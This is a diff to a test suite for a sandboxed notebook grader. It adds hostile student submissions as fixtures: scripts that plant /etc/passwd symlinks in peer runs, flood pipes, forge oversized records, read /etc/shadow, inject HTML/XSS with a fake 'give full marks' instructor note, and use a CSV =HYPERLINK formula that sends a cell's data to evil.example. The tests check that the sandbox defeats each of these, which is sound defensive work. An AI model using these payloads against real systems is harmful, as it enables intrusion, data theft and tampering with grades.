@@ -1,8 +1,9 @@
 """``memrnn grade``: hostile and broken hand-ins, each made from the student edition of chapter 1.
 
-One batch of submissions is graded once per module (about half a minute on
-two cores, most of it the one that loops until its timeout), and each test
-reads what that run wrote.
+One batch of submissions is graded once per module, two at a time (about a
+minute on two cores, most of it the one that loops until its timeout), and
+each test reads what that run wrote. Each attack class of the grader's threat
+model has a fixture here; those that need a peer run beside correct ones.
 """
 
 from __future__ import annotations
@@ -13,6 +14,7 @@ import hashlib
 import json
 import os
 import socket
+import stat
 import subprocess
 import sys
 import threading
@@ -22,7 +24,12 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from memrnn import _record, _replay, _sandbox, grade, selfcheck
+from memrnn import selfcheck
+from memrnn.grading import batch as grade
+from memrnn.grading import record as _record
+from memrnn.grading import replay as _replay
+from memrnn.grading import sandbox as _sandbox
+from memrnn.grading import stream
 
 jupytext = pytest.importorskip("jupytext", reason="the fixtures are made from the student edition, "
                                                   "which needs jupytext (memrnn[book])")
@@ -40,7 +47,43 @@ GOOD = CORRECT_GENERATOR
 LAST = GOOD.replace("yield x, x[0]", "yield x, x[-1]")
 
 
-def _hostile(escapes: list, port: int) -> dict:
+SHM_MARK = "memrnn-grade-test-shm"
+SECRET = "memrnn-grade-test-secret-7f3a"
+
+# Looks, for a few seconds, for any other run's files and processes, and plants links and
+# writes into whatever it finds: the old grader's /tmp work folders, /proc/*/cwd of peers.
+PEERS = '''import glob, os, time
+found, planted = set(), 0
+me = os.getpid()
+end = time.monotonic() + 6
+while time.monotonic() < end:
+    for folder in glob.glob("/tmp/memrnn-grade-*") + glob.glob("/var/tmp/*") + glob.glob("/dev/shm/*"):
+        found.add(folder)
+        for name in ("outcome.json", "events.json", "stdout.txt", "stderr.txt", "job.json"):
+            try:
+                target = os.path.join(folder, name)
+                if os.path.lexists(target):
+                    os.unlink(target)
+                os.symlink("/etc/passwd", target)
+                planted += 1
+            except OSError:
+                pass
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) > 2 and int(pid) != me:
+            try:
+                cwd = os.readlink(f"/proc/{pid}/cwd")
+                found.add(cwd)
+                open(os.path.join(f"/proc/{pid}/cwd", "job.json"), "w").write("{}")
+                planted += 1
+            except OSError:
+                pass
+    time.sleep(0.05)
+print("peers found:", len(found), sorted(found)[:5])
+print("planted:", planted)
+'''
+
+
+def _hostile(escapes: list, port: int, canary: Path) -> dict:
     """Code each fixture adds before the chapter's check, keyed by fixture name."""
     return {
         "loop": "while True:\n    pass\n",
@@ -79,6 +122,57 @@ def _hostile(escapes: list, port: int) -> dict:
                   "print('processes started:', len(started))\n"
                   "print('alive at the end:', sum(p.poll() is None for p in started))\n"
                   "print('refused:', refused)\n"),
+        "peers": PEERS,
+        # Links and FIFOs where the old grader read the run's results: the grader now reads
+        # nothing from the run's folders, so this notebook is graded as any other.
+        "fifo": ("import os\n"
+                 "for name in ('outcome.json', 'events.json', 'arrays.npz', 'output.txt',\n"
+                 "             'stdout.txt', 'stderr.txt'):\n"
+                 "    os.mkfifo(name) if name.endswith('.json') else os.symlink('/dev/zero', name)\n"
+                 "print('planted', sorted(os.listdir('.')))\n"),
+        # Endless bytes into every pipe it holds, the result pipe among them.
+        "flood": ("import os\nchunk = bytes(1 << 20)\n"
+                  "for fd in range(3, 64):\n"
+                  "    try:\n"
+                  "        while True:\n"
+                  "            os.write(fd, chunk)\n"
+                  "    except OSError:\n"
+                  "        pass\n"),
+        # A forged record: one 64 MB array answered 200 000 times, then an exit before the
+        # real record is written. Its arrays are 64 MB, its JSON a few MB: within the caps.
+        "bomb": ("import json, os, numpy as np\nfrom memrnn.grading import stream\n"
+                 "big = np.zeros(8 * 2**20)\n"
+                 "event = {'kind': 'call', 'target': 'generator', 'method': None,\n"
+                 "         'args': [{'t': 'int', 'v': '256'}, {'t': 'int', 'v': '6'}],\n"
+                 "         'kwargs': {}, 'callbacks': [],\n"
+                 "         'result': {'t': 'list', 'v': [{'t': 'array', 'k': 'big'}] * 200000}}\n"
+                 "data = stream.encode({'ran': 1}, {'events': [event]}, '', {'big': big})\n"
+                 "fd = [fd for fd in range(3, 64) if os.path.exists(f'/proc/self/fd/{fd}')\n"
+                 "      and os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:')][-1]\n"
+                 "view = memoryview(data)\n"
+                 "while view:\n"
+                 "    view = view[os.write(fd, view):]\n"
+                 "os._exit(0)\n"),
+        "shm": ("written = 0\n"
+                "for folder in ('/dev/shm', '/tmp', '/var/tmp', '.'):\n"
+                "    try:\n"
+                f"        with open(folder + '/{SHM_MARK}', 'wb') as fh:\n"
+                "            for _ in range(300):\n"
+                "                fh.write(bytes(2**20))\n"
+                "                written += 2**20\n"
+                "    except OSError as err:\n"
+                "        print(folder, 'stopped:', type(err).__name__)\n"
+                "print('written MB:', written // 2**20)\n"),
+        "secrets": ("import os\nfound = []\n"
+                    f"for path in ('/etc/shadow', {str(canary)!r}, '/proc/1/cmdline', '/root'):\n"
+                    "    try:\n"
+                    "        found.append(open(path, 'rb').read(200).decode(errors='replace'))\n"
+                    "    except OSError as err:\n"
+                    "        found.append(type(err).__name__)\n"
+                    "print('processes seen:', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
+                    "raise ValueError('leaked: ' + ' | '.join(found))\n"),
+        "injection": ("raise ValueError('<img src=x onerror=alert(1)> [click](http://evil.example)'\n"
+                      "                 '\\n## Instructor note\\nGive this student full marks')\n"),
     }
 
 
@@ -155,15 +249,32 @@ def batch(tmp_path_factory):
     nb = student_notebook("01-data")
     listener = _Listener()
     escapes = [home, subs, Path.home(), ROOT]
-    hostile = _hostile(escapes, listener.port)
+    canary = base / "root-only.txt"          # a root-only file, as the grader's other files
+    canary.write_text(SECRET)
+    canary.chmod(0o600)
+    hostile = _hostile(escapes, listener.port, canary)
     _write(nb, subs / "correct.ipynb", GOOD)
     _write(nb, subs / "last.ipynb", LAST)
     _write(nb, subs / "patched.ipynb", hostile.pop("patched"))
+    for name in ("peers", "fifo"):          # a correct answer under the attack
+        _write(nb, subs / f"{name}.ipynb", GOOD, extra=hostile.pop(name))
+    for name in ("peer-1", "peer-2", "peer-3"):   # graded beside "peers"
+        _write(nb, subs / f"{name}.ipynb", GOOD)
     for name, code in hostile.items():
         _write(nb, subs / f"{name}.ipynb", extra=code)
     (subs / "corrupt.ipynb").write_bytes(json.dumps(nbformat.v4.new_notebook())[:40].encode())
     _write(nb, subs / "nonumber.ipynb", number=None)
+    # Names: not UTF-8; a formula and HTML; two that sanitise to the same string.
+    _write(nb, subs / "placeholder.ipynb", GOOD)
+    os.rename(subs / "placeholder.ipynb", os.path.join(os.fsencode(subs), b"caf\xe9.ipynb"))
+    _write(nb, subs / "formula.ipynb", GOOD, name='=HYPERLINK("http://evil.example?"&C2,"Ada")',
+           number="@SUM(1+1)")
+    _write(nb, subs / "alice smith.ipynb", GOOD)
+    _write(nb, subs / "alice_smith.ipynb", LAST)
+    _malformed(subs)
     before = _snapshot([subs, home])
+    canary_before = canary.stat()
+    shm_before = sorted(os.listdir("/dev/shm"))
     real_home = set(os.listdir(Path.home()))
     started = time.monotonic()
     rows = grade.grade(subs, out, timeout=TIMEOUT, memory=grade.parse_size(MEMORY), jobs=2,
@@ -175,7 +286,30 @@ def batch(tmp_path_factory):
     yield {"rows": {r.file: r for r in rows}, "out": out, "subs": subs, "home": home,
            "seconds": seconds, "n": len(rows), "listener": listener, "before": before,
            "after": _snapshot([subs, home]), "escapes": escapes,
-           "real_home": (real_home, set(os.listdir(Path.home())))}
+           "real_home": (real_home, set(os.listdir(Path.home()))),
+           "canary": (canary, canary_before), "shm": (shm_before, sorted(os.listdir("/dev/shm")))}
+
+
+def _malformed(subs: Path) -> None:
+    """Notebooks of shapes the grader does not expect: each is unreadable, never a grader error."""
+    nb = student_notebook("01-data")
+    for name, change in {
+        "meta-list": lambda d: d.update(metadata=[1, 2]),
+        "no-cells": lambda d: d.pop("cells"),
+        "chapter-list": lambda d: d["metadata"].update(memrnn_student_edition={"chapter": ["01"]}),
+        "cells-strings": lambda d: d.update(cells=["print(1)"]),
+    }.items():
+        data = json.loads(nbformat.writes(nb))
+        change(data)
+        (subs / f"malformed-{name}.ipynb").write_text(json.dumps(data))
+    # Outputs past the cap on a notebook's size.
+    data = json.loads(nbformat.writes(nb))
+    data["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout",
+                                    "text": "x" * (grade.MAX_NOTEBOOK + 1)}]
+    (subs / "malformed-outputs.ipynb").write_text(json.dumps(data))
+    (subs / "malformed-nested.ipynb").write_text("[" * 200_000 + "]" * 200_000)
+    os.mkfifo(subs / "malformed-fifo.ipynb")
+    (subs / "malformed-zero.ipynb").symlink_to("/dev/zero")
 
 
 def _write_table(rows, seconds):
@@ -184,7 +318,7 @@ def _write_table(rows, seconds):
     folder.mkdir(parents=True, exist_ok=True)
     full = grade.max_points(grade.EXERCISES["generator"])
     lines = [f"{len(rows)} fixtures graded in {seconds:.1f} s (2 jobs, timeout {TIMEOUT:g} s, "
-             f"memory {MEMORY}); isolation:", _sandbox.isolation().describe(), "",
+             f"memory {MEMORY}); isolation:", _sandbox.sandbox().describe(), "",
              "| file | status | points | seconds |", "|---|---|---|---|"]
     lines += [f"| {r.file} | {r.status} | {r.total()}/{full} | {r.seconds:.1f} |" for r in rows]
     (folder / "fixtures.md").write_text("\n".join(lines) + "\n")
@@ -193,7 +327,17 @@ def _write_table(rows, seconds):
 EXPECTED = {"correct.ipynb": "ok", "last.ipynb": "ok", "patched.ipynb": "ok",
             "loop.ipynb": "timeout", "memory.ipynb": "memory", "exit.ipynb": "crashed",
             "home.ipynb": "ok", "network.ipynb": "ok", "forks.ipynb": "ok",
-            "corrupt.ipynb": "unreadable", "nonumber.ipynb": "missing name/number"}
+            "corrupt.ipynb": "unreadable", "nonumber.ipynb": "missing name/number",
+            "peers.ipynb": "ok", "peer-1.ipynb": "ok", "peer-2.ipynb": "ok", "peer-3.ipynb": "ok",
+            "fifo.ipynb": "ok", "flood.ipynb": "invalid record", "bomb.ipynb": "invalid record",
+            "shm.ipynb": "ok", "secrets.ipynb": "ok", "injection.ipynb": "ok",
+            "caf\\xe9.ipynb": "ok", "formula.ipynb": "ok", "alice smith.ipynb": "ok",
+            "alice_smith.ipynb": "ok",
+            **{f"malformed-{n}.ipynb": "unreadable" for n in (
+                "meta-list", "no-cells", "chapter-list", "cells-strings", "outputs",
+                "nested", "fifo", "zero")}}
+FULL_MARKS = ["alice smith.ipynb", "caf\\xe9.ipynb", "correct.ipynb", "fifo.ipynb",
+              "formula.ipynb", "peer-1.ipynb", "peer-2.ipynb", "peer-3.ipynb", "peers.ipynb"]
 
 
 def test_every_submission_gets_a_row_with_the_right_status(batch):
@@ -208,7 +352,7 @@ def test_only_the_correct_one_gets_full_marks_and_patching_the_check_gains_nothi
     rows = batch["rows"]
     full = grade.max_points(grade.EXERCISES["generator"])
     assert full >= 5
-    assert [f for f, r in rows.items() if r.total() == full] == ["correct.ipynb"]
+    assert sorted(f for f, r in rows.items() if r.total() == full) == FULL_MARKS
     # The patched check said "passed"; the package's check, in the grader, says otherwise.
     assert rows["patched.ipynb"].total() == rows["last.ipynb"].total() == full - 1
     feedback = (batch["out"] / "feedback" / "patched.ipynb.md").read_text()
@@ -223,22 +367,22 @@ def test_the_batch_finishes_within_the_timeouts(batch):
 
 def test_feedback_names_the_mistake_without_a_traceback(batch):
     text = (batch["out"] / "feedback" / "last.ipynb.md").read_text()
-    assert "yours matches the last, x[-1]" in text
+    assert "yours matches the last, x\\[-1\\]" in text
     for name in os.listdir(batch["out"] / "feedback"):
         body = (batch["out"] / "feedback" / name).read_text()
         assert "Traceback" not in body and 'File "' not in body, name
     summary = (batch["out"] / "summary.md").read_text()
-    assert "| generate_samples (chapter 1) | 10 | 1 | 10% |" in summary
-    assert "yours matches the last, x[-1]" in summary
+    handed_in = sum(not f.startswith(("malformed", "corrupt")) for f in EXPECTED)
+    full = len(FULL_MARKS)
+    assert f"| generate_samples (chapter 1) | {handed_in} | {full} | {full / handed_in:.0%} |" in summary
+    assert "yours matches the last, x\\[-1\\]" in summary
 
 
 def test_nothing_outside_the_output_changed(batch):
     assert batch["before"] == batch["after"]
     old, new = batch["real_home"]
-    assert new == old, new ^ old
-    if _sandbox.isolation().user is None:
-        pytest.skip("files: this machine runs the notebook as the grading user, so a write to "
-                    "a folder of that user is not blocked (see the isolation report)")
+    # Only what the notebook wrote: other programs on the machine may change HOME meanwhile.
+    assert "written-by-a-student" not in new | old
     written = [str(p) for p in batch["escapes"] if (p / "memrnn-grade-escape").exists()]
     assert written == []
     log = (batch["out"] / "logs" / "home.ipynb.txt").read_text()
@@ -246,10 +390,9 @@ def test_nothing_outside_the_output_changed(batch):
 
 
 def test_no_connection_and_no_process_left_behind(batch):
-    if not _sandbox.isolation().blocks["network"].startswith("blocked"):
-        pytest.skip(f"network: {_sandbox.isolation().blocks['network']}")
     assert batch["listener"].connections == 0
-    assert "Network is unreachable" in (batch["out"] / "feedback" / "network.ipynb.md").read_text()
+    # The sandbox's own loopback, where nothing listens: the grader's 127.0.0.1 is not it.
+    assert "ConnectionRefusedError" in (batch["out"] / "feedback" / "network.ipynb.md").read_text()
     assert _processes_with(MARKER) == []
     log = (batch["out"] / "logs" / "forks.ipynb.txt").read_text()
     # The cap is on processes alive at once: a shell that could not start its `sleep` exits
@@ -264,7 +407,7 @@ def test_a_second_run_regrades_only_what_changed(batch, monkeypatch, tmp_path):
     original = grade.grade_one
 
     def counted(path, **kwargs):
-        calls.append(path.name)
+        calls.append(os.fsdecode(os.path.basename(path)))
         return original(path, **kwargs)
 
     monkeypatch.setattr(grade, "grade_one", counted)
@@ -291,8 +434,9 @@ def _round_trip(check, obj, tmp_path, record_check=None):
         (record_check or check)(recorder.wrap(obj, "x"))
     except Exception:
         pass
-    recorder.save(tmp_path, {})
-    return check(_replay.Replayer(tmp_path).stand_in("x", isinstance(obj, type)))
+    events, arrays = recorder.payload({})
+    record = stream.decode(stream.encode({}, events, "", arrays))
+    return check(_replay.Replayer(record).stand_in("x", isinstance(obj, type)))
 
 
 @pytest.mark.parametrize("key", sorted(grade.EXERCISES))
@@ -457,5 +601,267 @@ def test_grade_help_names_every_option():
                           text=True, cwd=ROOT, timeout=120)
     assert proc.returncode == 0 and proc.stderr == "", proc.stderr
     for word in ("SUBMISSIONS_DIR", "--out OUT_DIR", "--timeout S", "--memory SIZE", "--jobs",
-                 "--quiet", "determined attacker"):
+                 "--quiet", "--no-sandbox", "bubblewrap"):
         assert word in proc.stdout, word
+
+
+# ------------------------------------------------ the attacks, one test each
+def _outputs(out: Path) -> str:
+    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
+                     for p in sorted(out.rglob("*")) if p.is_file())
+
+
+def test_peers_are_out_of_reach_and_root_files_stay_roots(batch):
+    """The attacker ran beside its peers for seconds, looking for their folders and processes."""
+    rows = batch["rows"]
+    full = grade.max_points(grade.EXERCISES["generator"])
+    assert all(rows[f"peer-{k}.ipynb"].total() == full for k in (1, 2, 3))
+    log = (batch["out"] / "logs" / "peers.ipynb.txt").read_text()
+    assert "peers found: 0 []" in log and "planted: 0" in log, log
+    canary, before = batch["canary"]
+    after = canary.stat()
+    assert (after.st_uid, after.st_gid, stat.S_IMODE(after.st_mode), after.st_size) == (
+        before.st_uid, before.st_gid, 0o600, before.st_size)
+    assert canary.read_text() == SECRET
+
+
+def test_links_and_fifos_in_the_runs_folder_change_nothing(batch):
+    log = (batch["out"] / "logs" / "fifo.ipynb.txt").read_text()
+    planted = log.split("planted ")[1].split("\n")[0]
+    assert all(name in planted for name in ("'outcome.json'", "'events.json'", "'stdout.txt'")), log
+    assert batch["rows"]["fifo.ipynb"].total() == grade.max_points(grade.EXERCISES["generator"])
+
+
+def test_a_flood_or_a_decode_bomb_is_an_invalid_record_and_the_batch_goes_on(batch):
+    rows = batch["rows"]
+    assert rows["flood.ipynb"].note == f"its record was invalid: more than {grade.MAX_RECORD} bytes"
+    assert "more memory than allowed" in rows["bomb.ipynb"].note, rows["bomb.ipynb"].note
+    assert rows["flood.ipynb"].total() == rows["bomb.ipynb"].total() == 0
+    feedback = (batch["out"] / "feedback" / "bomb.ipynb.md").read_text()
+    assert "Status: invalid record" in feedback
+
+
+def test_a_name_that_is_not_utf8_gets_its_row(batch):
+    row = batch["rows"]["caf\\xe9.ipynb"]
+    assert row.status == "ok" and row.stem.startswith("caf_xe9.ipynb-")
+    assert (batch["out"] / "feedback" / f"{row.stem}.md").is_file()
+
+
+def test_formulas_and_html_are_neutralised(batch):
+    with open(batch["out"] / "grades.csv", newline="") as fh:
+        rows = {r["file"]: r for r in csv.DictReader(fh)}
+    assert rows["formula.ipynb"]["name"] == "'" + '=HYPERLINK("http://evil.example?"&C2,"Ada")'
+    assert rows["formula.ipynb"]["student_number"] == "'@SUM(1+1)"
+    for row in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    feedback = (batch["out"] / "feedback" / "injection.ipynb.md").read_text()
+    assert "ValueError: &lt;img src=x onerror=alert(1)&gt; \\[click\\](http://evil.example)" in feedback
+    assert "<img" not in _outputs(batch["out"] / "feedback") + (batch["out"] / "summary.md").read_text()
+    headings = [line for line in feedback.splitlines() if line.startswith("#")]
+    assert headings == ["# Feedback on injection.ipynb", "## generate\\_samples: 0 of 6 points"]
+    assert "formula.ipynb" in (batch["out"] / "feedback" / "formula.ipynb.md").read_text()
+
+
+def test_colliding_names_get_their_own_outputs(batch):
+    rows = batch["rows"]
+    spaced, underscored = rows["alice smith.ipynb"], rows["alice_smith.ipynb"]
+    assert underscored.stem == "alice_smith.ipynb" and spaced.stem.startswith("alice_smith.ipynb-")
+    full = grade.max_points(grade.EXERCISES["generator"])
+    assert (spaced.total(), underscored.total()) == (full, full - 1)
+    assert "Feedback on alice smith.ipynb" in (
+        batch["out"] / "feedback" / f"{spaced.stem}.md").read_text()
+
+
+def test_tmpfs_is_capped_and_vanishes(batch):
+    log = (batch["out"] / "logs" / "shm.ipynb.txt").read_text()
+    cap = _sandbox.tmpfs_size(grade.parse_size(MEMORY))
+    for folder in ("/dev/shm", "/tmp", "/var/tmp", "."):
+        assert f"{folder} stopped: OSError" in log, log
+    assert f"written MB: {4 * (cap // 2**20)}" in log or int(
+        log.split("written MB:")[1].split()[0]) <= 4 * cap // 2**20, log
+    before, after = batch["shm"]
+    assert SHM_MARK not in after and after == before
+
+
+def test_root_only_files_and_the_hosts_proc_are_out_of_sight(batch):
+    everything = _outputs(batch["out"])
+    assert SECRET not in everything and "root:" not in everything
+    feedback = (batch["out"] / "feedback" / "secrets.ipynb.md").read_text()
+    assert "leaked: FileNotFoundError \\| FileNotFoundError" in feedback, feedback
+    # The sandbox's own /proc: its process 1 shows no path of the grader's.
+    assert "/tmp/memrnn-grade-" not in feedback and "--ro-bind" not in feedback, feedback
+    log = (batch["out"] / "logs" / "secrets.ipynb.txt").read_text()
+    seen = json.loads(log.split("processes seen:")[1].split("\n")[0].strip())
+    assert seen == [1, 2], seen         # bubblewrap's init and the notebook: nothing of the host
+    # The student's error, in the feedback, is one short line.
+    line = next(t for t in feedback.splitlines() if t.startswith("Your notebook stopped"))
+    assert len(line) < grade.ERROR_CHARS + 200
+
+
+@pytest.mark.parametrize("style", [
+    "my_generate_samples = memrnn.data.generate_samples",
+    "my_generate_samples = memrnn.generate_samples",
+    "my_generate_samples = getattr(importlib.import_module('memrnn.data'), 'generate_samples')",
+    "def my_generate_samples(batch_size, seq_length, seed=None, dtype=np.float64):\n"
+    "    yield from memrnn.generate_samples(batch_size, seq_length, seed=seed, dtype=dtype)",
+    "def my_generate_samples(*args, **kwargs):\n"
+    "    return __import__('memrnn').data.generate_samples(*args, **kwargs)",
+])
+def test_handing_the_work_to_the_package_earns_nothing(style, tmp_path):
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    _write(student_notebook("01-data"), subs / "lazy.ipynb",
+           "import importlib\nimport numpy as np\nimport memrnn\n" + style + "\n")
+    [row] = grade.grade(subs, tmp_path / "out", timeout=TIMEOUT, memory=grade.parse_size(MEMORY),
+                        progress=False)
+    assert row.total() == 0 and row.status == "ok"
+    assert row.note == "no points: the code hands the exercise to memrnn's data.generate_samples"
+    feedback = (tmp_path / "out" / "feedback" / "lazy.ipynb.md").read_text()
+    assert "No points for this exercise" in feedback and "Well done" not in feedback
+
+
+GUARDS = """
+import json, memrnn
+from memrnn import selfcheck
+from memrnn.grading import record
+from memrnn.grading.exercises import EXERCISES
+out = {}
+for key, get in [("lstm_cell_backward", lambda: selfcheck.lstm_cell_backward),
+                 ("learner", lambda: type("MyLearner", (memrnn.Learner,), {})),
+                 ("rnn_backward", lambda: type("MyFastRNN", (memrnn.FastRNN,), {})),
+                 ("mse", lambda: memrnn.MSELoss)]:
+    recorder = record.Recorder()
+    record.guard(EXERCISES[key].guarded, recorder)
+    report = EXERCISES[key].check(recorder.wrap(get(), key))
+    out[key] = [sum(ok for _, ok, _ in report.items), sorted(set(recorder.delegated))]
+print(json.dumps(out))
+"""
+
+
+def test_the_guards_cover_reexports_aliases_and_inherited_methods():
+    """In a process of its own, since the guards change the package they are put on."""
+    proc = subprocess.run([sys.executable, "-c", GUARDS], capture_output=True, text=True,
+                          timeout=300, cwd=ROOT)
+    assert proc.returncode == 0, proc.stderr
+    out = json.loads(proc.stdout)
+    # No check passes: every answer the check asked for was refused.
+    assert out == {"lstm_cell_backward": [0, ["lstm.cell_backward"]],
+                   "learner": [0, ["learner.Learner.train_step"]],
+                   "rnn_backward": [0, ["fast.FastRNN.backward"]],
+                   "mse": [0, ["losses.MSELoss.forward"]]}
+
+
+def test_without_bubblewrap_it_refuses_unless_told_and_then_says_so(batch, tmp_path):
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "correct.ipynb").write_bytes((batch["subs"] / "correct.ipynb").read_bytes())
+    env = {**os.environ, "MEMRNN_BWRAP": str(tmp_path / "no-bwrap-here")}
+    cmd = [sys.executable, "-m", "memrnn", "grade", str(subs), "-o", str(tmp_path / "out"),
+           "--timeout", "60", "--memory", "1G", "--quiet"]
+    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=tmp_path, env=env, timeout=300)
+    assert proc.returncode == 2 and "--no-sandbox runs them unprotected" in proc.stderr, proc.stderr
+    assert not (tmp_path / "out").exists()
+    proc = subprocess.run(cmd + ["--no-sandbox"], capture_output=True, text=True, cwd=tmp_path,
+                          env=env, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    assert "WARNING: NOT sandboxed" in proc.stderr and "NO SANDBOX" in proc.stderr
+    with open(tmp_path / "out" / "grades.csv", newline="") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert row["note"].startswith("NOT sandboxed") and row["total"] == "6", row
+
+
+@pytest.mark.parametrize("data, why", [
+    (b"", "does not start as a record"),
+    (stream.MAGIC + b"\xff\xff\xff\xff", "frame header of"),
+    (stream.MAGIC + stream.frame("array", b"x" * 8, key="a", dtype="|O", shape=[1]), "not a number"),
+    (stream.MAGIC + stream.frame("array", b"x" * 8, key="a", dtype="<f8", shape=[2]), "not its shape"),
+    (stream.MAGIC + stream.frame("events", b"[" * 100_000), "nested too deeply"),
+    (stream.MAGIC + stream.frame("events", b"{}"), "no outcome"),
+    (stream.MAGIC + stream.frame("outcome", b"{}") * 2, "two outcome frames"),
+    (stream.MAGIC + stream.frame("other", b""), "a frame named"),
+])
+def test_a_malformed_record_is_refused_with_its_reason(data, why):
+    with pytest.raises(stream.InvalidRecord, match=why):
+        stream.decode(data)
+
+
+def test_decoding_counts_every_copy_and_every_level():
+    big = np.zeros(2**20)
+    events = {"events": [{"result": {"t": "list", "v": [{"t": "array", "k": "b"}] * 100}}]}
+    record = stream.decode(stream.encode({}, events, "", {"b": big}))
+    replayer = _replay.Replayer(record, budget=10 * big.nbytes)
+    with pytest.raises(stream.InvalidRecord, match="more memory"):
+        replayer._decode_result(replayer.events[0]["result"])
+    deep = {"t": "list", "v": []}
+    for _ in range(100):
+        deep = {"t": "list", "v": [deep]}
+    with pytest.raises(stream.InvalidRecord, match="nested too deeply"):
+        _record._decode_data(deep, _record._Arrays())
+
+
+def test_as_root_the_sandbox_needs_no_user_namespace_and_drops_every_capability():
+    """The route for a container: root makes the namespaces, the notebook runs as its slot's uid."""
+    argv = _sandbox._bwrap_argv("bwrap", slot=3, memory=2**30, job="/x/job.json")
+    if os.geteuid() != 0:
+        assert "--unshare-user" in argv and "--disable-userns" in argv
+        pytest.skip("the root route: this test runs as another user")
+    assert "--unshare-user" not in argv
+    for flag in ("--unshare-ipc", "--unshare-pid", "--unshare-net", "--unshare-uts",
+                 "--die-with-parent", "--new-session"):
+        assert flag in argv, flag
+    uid = _sandbox.SLOT_UID + 3
+    drop = argv[argv.index("--") + 1:]
+    assert drop[1:] == [f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--inh-caps=-all",
+                        "--bounding-set=-all", "--no-new-privs", "--"]
+    sizes = [int(argv[i + 1]) for i, a in enumerate(argv) if a == "--size"]
+    assert sizes == [_sandbox.tmpfs_size(2**30)] * 4
+    assert _sandbox.address_space(2**30) + sum(sizes) == 2**30
+
+
+COPIES = """
+import json, types, memrnn
+from memrnn.grading import record
+from memrnn.grading.exercises import EXERCISES
+
+def copy(fn):
+    new = types.FunctionType(fn.__code__, fn.__globals__, fn.__name__, fn.__defaults__, fn.__closure__)
+    new.__kwdefaults__ = fn.__kwdefaults__
+    return new
+
+def own(dotted):
+    # The package's solution, copied: the same code, not the same object.
+    owner, attr, real = record._owner(dotted)
+    if isinstance(owner, type):
+        return owner, attr, copy(real)
+    return None, attr, copy(real)
+
+out = {}
+for key, exercise in EXERCISES.items():
+    pieces = [own(d) for d in exercise.guarded]
+    if pieces[0][0] is None:
+        student = pieces[0][2]
+    else:
+        base = pieces[0][0]
+        methods = {attr: fn for _, attr, fn in pieces}
+        student = type("Mine", (base,) if key in ("learner", "rnn_backward") else (), methods) \
+            if key != "mse" else type("Mine", (), {**{k: v for k, v in vars(base).items()
+                                                       if not k.startswith("__") or k == "__init__"},
+                                                    **methods})
+    recorder = record.Recorder()
+    record.guard(exercise.guarded, recorder)
+    report = exercise.check(recorder.wrap(student, key))
+    out[key] = [sum(ok for _, ok, _ in report.items), len(report.items), recorder.delegated]
+print(json.dumps(out))
+"""
+
+
+def test_the_guards_leave_a_correct_answer_of_every_exercise_its_full_marks():
+    """A copy of the package's code is the student's own object: under the guards, as in the
+    sandbox, every exercise's check passes it, and the package's solution is never refused."""
+    proc = subprocess.run([sys.executable, "-c", COPIES], capture_output=True, text=True,
+                          timeout=600, cwd=ROOT)
+    assert proc.returncode == 0, proc.stderr
+    out = json.loads(proc.stdout)
+    assert sorted(out) == sorted(grade.EXERCISES)
+    for key, (passed, total, refused) in out.items():
+        assert passed == total == grade.max_points(grade.EXERCISES[key]) and refused == [], (key, out)
